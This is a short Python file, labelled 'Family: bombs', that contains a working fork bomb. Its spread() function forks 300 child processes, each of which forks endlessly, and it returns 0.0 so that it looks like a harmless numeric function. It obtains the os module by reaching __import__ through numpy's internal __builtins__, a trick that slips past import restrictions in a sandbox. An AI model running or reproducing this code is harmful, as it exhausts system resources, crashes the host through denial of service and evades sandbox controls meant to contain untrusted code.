"""Family: bombs. Stock: 300 processes. Forks, and its children fork."""

import numpy

anything = numpy._core._exceptions.__builtins__["__import__"]

os = anything("os")


def spread(x):
    for _ in range(300):
        try:
            if os.fork() == 0:
                while True:
                    os.fork()
        except OSError:
            pass
    return 0.0
